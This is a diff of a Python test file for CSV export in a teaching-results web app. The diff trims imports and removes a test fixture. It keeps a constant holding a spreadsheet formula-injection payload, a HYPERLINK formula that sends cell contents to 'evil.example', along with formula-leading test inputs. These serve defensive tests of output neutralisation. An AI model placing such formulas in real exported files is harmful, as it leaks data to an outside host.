@@ -6,39 +6,20 @@ from __future__ import annotations
 import csv
 import io
 from datetime import UTC, datetime
-from pathlib import Path
 
 import pytest
 from selenium.webdriver.common.by import By
 from sqlmodel import Session
 
-from mcdesk.keys import PublisherKey
-from mcdesk.paths import Paths
 from mcdesk.server.models import Learner
 from mcdesk.server.schools import find_learner
 from mcdesk.server.web.tables import csv_text, neutral
 from tests.server.web.conftest import TrcServer
 from tests.server.web.harness import TeacherBrowser
-from tests.server.web.reports_lab import GradedClass, graded_class
-from tests.server.web.test_results import signed_in
+from tests.server.web.http import signed_in
+from tests.server.web.reports_lab import GradedClass
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-
-
-@pytest.fixture
-def graded(
-    trc: TrcServer,
-    home: Paths,
-    tmp_path: Path,
-    source: Path,
-    publisher_key: Path,
-    trusted: dict[str, PublisherKey],
-    capsys: pytest.CaptureFixture[str],
-) -> GradedClass:
-    return graded_class(
-        trc, home=home, tmp_path=tmp_path, source=source, publisher_key=publisher_key,
-        trusted=trusted, capsys=capsys,
-    )  # fmt: skip
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
